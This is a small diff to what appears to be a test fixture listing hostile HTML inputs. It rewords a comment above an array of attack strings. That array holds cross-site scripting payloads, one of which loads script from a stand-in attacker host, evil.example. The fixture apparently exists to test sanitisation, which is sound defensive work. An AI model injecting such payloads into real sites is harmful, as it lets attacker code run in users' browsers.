@@ -1,4 +1,4 @@
-/** What somebody would have staff paste, or send in their name. */
+/** Hostile HTML that staff might paste, or that is sent in their name. */
 export const attacks = [
   "<script>alert(1)</script>",
   "<script src=//evil.example/x.js></script>",
